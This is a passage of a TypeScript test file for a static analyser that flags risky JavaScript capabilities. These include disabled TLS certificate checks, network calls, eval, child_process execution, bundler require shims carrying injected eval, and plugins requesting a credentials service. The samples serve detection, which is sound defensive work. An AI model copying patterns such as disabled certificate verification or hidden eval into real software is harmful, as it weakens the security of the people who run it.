  [`const o = { 'rejectUnauthorized': !1 }; require('tls').connect(o)`, ['unverified ?', 'network ?']],
  [`new (require('https').Agent)({ rejectUnauthorized: true }); use({ rejectUnauthorized: false })`, []],
  [
    `const { Agent } = require('https'); new Agent({ rejectUnauthorized: !0 }); new Agent({ rejectUnauthorized: !x })`,
    [],
  ],
] as const)('sees that code takes any certificate: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test('does not take an address with a name of a user for one of this machine', () => {
  expect(seen(`fetch('http://localhost:80@[2001:db8::1]/')`)).toEqual(['network [2001:db8::1]'])
})

test.for([
  ['https://tides.example/now', 'tides.example'],
  ['https://example.com', 'example.com'],
  ['http://www.w3.org/ns', 'www.w3.org'],
  ['https://api.test/', 'api.test'],
  ['http://printer/jobs', 'printer'],
  ['http://tides.localhost:3000', 'tides.localhost'],
] as const)('names every host that a request names: %s', ([address, host]) => {
  expect(seen(`fetch('${address}').then(f)`)).toEqual([`network ${host}`])
  expect(seen(`names.get('${address}')`)).toEqual([])
})

test.for([
  `fetchLater.bind(globalThis); run.call(window, x); Object.defineProperty(globalThis, 'a', { value: 1 })`,
  `globalThis[key] = 1; key in globalThis; self === window; const root = typeof self === 'object' ? self : global`,
  `listen(window, 'resize', f); Object.hasOwn(globalThis, 'a'); function f(a) { for (const b of c) { const { global } = b; g(global) } }`,
  `x instanceof WebSocket; typeof XMLHttpRequest; WebSocket.OPEN`,
  `(function (root, factory) { root.a = factory(); root[name] = 1 })(globalThis, function () {})`,
  `import { test } from 'node:test'; test('a', () => {}); import v8 from 'v8'; v8.serialize(x)`,
])('does not take the ordinary use of globals for more: %s', (code) => {
  expect(seen(code)).toEqual([])
})

const SHIM = `((x) => typeof require !== "undefined" ? require : typeof Proxy !== "undefined" ? new Proxy(x, {
  get: (a, b) => (typeof require !== "undefined" ? require : a)[b]
}) : x)(function(x) {
  if (typeof require !== "undefined") return require.apply(this, arguments);
  throw Error('Dynamic require of "' + x + '" is not supported');
})`
test('follows the loader that bundlers write by its name, and sees what is put into it', () => {
  expect(seen(`var __require = /* @__PURE__ */ ${SHIM}; __require('child_process').exec('ls')`)).toContain(
    'starts-programs ls',
  )
  expect(seen(`var q = ${SHIM.replace(`throw Error`, 'eval(y); throw Error')}`)).toContain('runs-text ?')
  expect(seen(`const require = eval; var q = ${SHIM}; q(x)`)).toContain('runs-text ?')
})

test.for([
  `export const inject = ['tools', 'credentials']`,
  `export default { inject: ['credentials', 'approval'], apply() {} }`,
  `module.exports = { inject: { required: ['credentials'], optional: ['tools'] } }`,
  `ctx.plugin({ inject: ['credentials'], apply() {} })`,
  `const a = ['credentials']; export { a as inject }`,
  `const s = ['credentials']; exports.inject = [...s, 'tools']`,
  `class A { static inject = { required: ['jobs'], optional: ['credentials'] } }`,
  `A.inject = { credentials: true }`,
  `ctx.inject(['credentials'], (ctx) => {})`,
  `c.get('credentials')`,
  `export default { inject: ['credentials'], apply() {}, a, b, c, d, e, f, g, h, i, j, k, l, m, n }`,
])('sees that a plugin asks for a service that guards something: %s', (code) => {
  expect(seen(code)).toContain('service credentials')
})

test.for([
  `export const inject = list; export function apply(ctx) {}`,
  `import { s } from './s.js'; export default { inject: [...s], apply() {} }`,
  `ctx.plugin({ inject: names(), apply() {} })`,
  `export default class Mine { static inject = names() }`,
  `function Mine(ctx) {} Mine.inject = load(); module.exports = Mine`,
  `exports.inject = ['tools', name]; exports.apply = (ctx) => {}`,
  `__export(exports, { inject: () => inject, apply: () => apply }); var inject = load()`,
])('says that a list of services that it does not know is chosen while the code runs: %s', (code) => {
  expect(seen(code)).toEqual(['service ?'])
})

test('takes neither other services nor the injections of other programs for those', () => {
  expect(
    seen(
      `export const inject = ['tools', 'webServer']; const component = { inject: options }; service.inject(x); exports.inject = reduce; this.inject = y`,
    ),
  ).toEqual([])
})

test('names the line of each finding, and the modules that a file imports', () => {
  const code = `#!/usr/bin/env node\nimport a from './a.js'\nexport * from './b.js'\nawait import('./c.js')\n\n  eval(x)\nfunction f() { require('./d') }\nfetch(y)\nrequire('./e').run(); const { g } = x(require('./g'))`
  expect(readCode(code)).toEqual({
    findings: [
      { kind: 'runs-text', name: null, line: 6, use: expect.any(String) },
      { kind: 'network', name: null, line: 8, use: expect.any(String) },
    ],
    imports: ['./a.js', './b.js', './c.js', './d', './e', './g'],
    paths: [],
  })
})

test.for([
  `const p = require('path'); start({ workerPath: p.join(__dirname, '..', 'lib/work.js') })`,
  `const n = require('node:path'); run((0, n.resolve)(__dirname, '../lib/work.js'))`,
  `import { dirname, join } from 'path'; import { fileURLToPath } from 'url'; const here = dirname(fileURLToPath(import.meta.url)); run(join(here, '../lib/work.js'))`,
  `import { join } from 'path'; run(join(import.meta.dirname, '..', 'lib', 'work.js'))`,
  `run(new URL('../lib/work.js', import.meta.url)); run(\`\${__dirname}/../lib/work.js\`)`,
  `const text = readFileSync(__dirname + '/../lib/work.js')`,
])('tells the paths that a file puts together from its folder: %s', (code) => {
  expect([...new Set(factsOf(code).paths.map((path) => posix.join('dist', path)))]).toEqual(['lib/work.js'])
})

test('takes no other folder for its own', () => {
  const code = `import { join } from 'path'; function fileURLToPath() { return '/etc/x' } const __dirname = dirname(fileURLToPath(import.meta.url)); require(join(__dirname, 'a.js'))`
  expect(factsOf(code)).toMatchObject({ findings: [{ kind: 'loads-code' }], paths: [] })
})

test('reads scripts of the old kind, and says of other text that it is not JavaScript', () => {
  expect(seen(`with (x) { eval(y) }`)).toEqual(['runs-text ?'])
  expect(readCode('<!doctype html>')).toBe('not-javascript')
  expect(readCode('interface A { b: string }')).toBe('not-javascript')
  expect(readCode(`${'['.repeat(100_000)}${']'.repeat(100_000)}`)).toBe('too-large')
})

test.for([
  ['https://api.a.dev:8443/x', 'api.a.dev'],
  ['https://API.A.dev', 'api.a.dev'],
  ['https://user:word@a.dev', 'a.dev'],
  ['https://eu.….a.dev/x', 'eu.….a.dev'],
  ['https://xn--80ak6aa92e.com', 'xn--80ak6aa92e.com'],
  ['https://192.168.1.4/x', '192.168.1.4'],
  ['https://…/x', null],
  ['https://….a.dev/x', null],
  ['http://127.0.0.1:80', null],
  ['http://[::1]/', null],
  ['http://host', 'host'],
  ['http://*', null],
  ['vscode://file/a.ts', null],
  ['https://', null],
] as const)('reads the host of %s as %s', ([address, host]) => {
  expect(hostOf(address)).toBe(host)
})

test('reads a chain of hundreds of calls in a moment', () => {
  const chain = `export const z = d(p)${'.method(0)'.repeat(400)}\nrequire('child_process').exec('ls')`
  const start = process.cpuUsage()
  expect(seen(chain)).toEqual(['starts-programs ls'])
  expect(process.cpuUsage(start).user / 1e6).toBeLessThan(1)
})

test('reads many calls of a function with many results in a moment', () => {
  const start = process.cpuUsage()
  readCode(`function f() { ${'if (a) return b;'.repeat(10_000)} }${';f()'.repeat(10_000)}`)
  expect(process.cpuUsage(start).user / 1e6).toBeLessThan(3)
})

test.for([
  [`const o = { F: Function }; o.F(x)`, ['anything Function']],
  [`export const make = Function`, ['anything Function']],
  [`use(Function); const list = [eval]`, ['anything Function', 'anything eval']],
  [`import { interop } from './b.js'; const a = interop(require('child_process'))`, ['starts-programs ?']],
  [`ctx.plugin({ inject: list, ...rest })`, ['service ?']],
  [
    `import path from 'path'; const p = path.join(__dirname, 'run.sh'); require('child_process').spawn(p)`,
    ['starts-programs run.sh'],
  ],
  [`const p = require('path').resolve(__dirname, './a.json'); require(p)`, []],
] as const)('says of what leaves that can be followed what it can do from there: %s', ([code, expected]) => {
  expect(seen(code)).toEqual(expected)
})

test.for([
  `x instanceof Function; typeof Function; Function.prototype.call.apply(f, y); Function.bind.call(f, y)`,
  `const { Function: F } = globalThis; x instanceof F`,
])('does not take the names of types for code: %s', (code) => {
  expect(seen(code)).toEqual([])
})

test('reads a call that passes on the same object very often in a moment', () => {
  const start = process.cpuUsage()
  readCode(`use(${'process,'.repeat(20_000)})`)
  expect(process.cpuUsage(start).user / 1e6).toBeLessThan(3)
})
